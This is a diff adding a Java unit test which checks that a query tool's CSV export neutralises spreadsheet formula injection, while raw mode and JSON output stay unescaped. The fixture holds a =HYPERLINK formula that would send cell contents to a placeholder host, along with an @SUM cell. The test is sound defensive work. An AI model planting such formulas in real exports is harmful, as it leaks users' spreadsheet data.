@@ -281,4 +281,29 @@ class QueryOutputTest {
     it.forEachRemaining(names::add);
     return names;
   }
+
+  @Test
+  void csvEscapesCellsASpreadsheetWouldRunAsFormulasUnlessAskedForRaw() throws Exception {
+    Path data = dir.resolve("formulas.json");
+    Files.writeString(data, """
+        {"actors": [{"id": "cn", "name": "=HYPERLINK(\\"http://example.invalid/?\\"&A1)", "kind": "state"},
+                    {"id": "eg", "name": "@SUM(1+1)", "kind": "state"},
+                    {"id": "fr", "name": "France", "kind": "state"}]}""");
+    Cli escaped = Cli.run("query", "--type", "actor", "--fields", "id,name", "--format", "csv", "--",
+        data.toString());
+    assertThat(escaped.exit()).as(escaped.err()).isZero();
+    assertThat(escaped.out()).isEqualTo("id,name\r\n"
+        + "cn,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1)\"\r\n"
+        + "eg,\"'@SUM(1+1)\"\r\n"
+        + "fr,France\r\n");
+    Cli raw = Cli.run("query", "--type", "actor", "--fields", "id,name", "--format", "csv",
+        "--csv-formulas", "raw", "--", data.toString());
+    List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+        .parse(new StringReader(raw.out())).getRecords();
+    assertThat(records.get(0).get("name")).isEqualTo("=HYPERLINK(\"http://example.invalid/?\"&A1)");
+    assertThat(records.get(1).get("name")).isEqualTo("@SUM(1+1)");
+    Cli json = Cli.run("query", "--type", "actor", "--fields", "id,name", "--format", "json", "--",
+        data.toString());
+    assertThat(json.out()).as("only CSV is escaped").contains("\"@SUM(1+1)\"");
+  }
 }
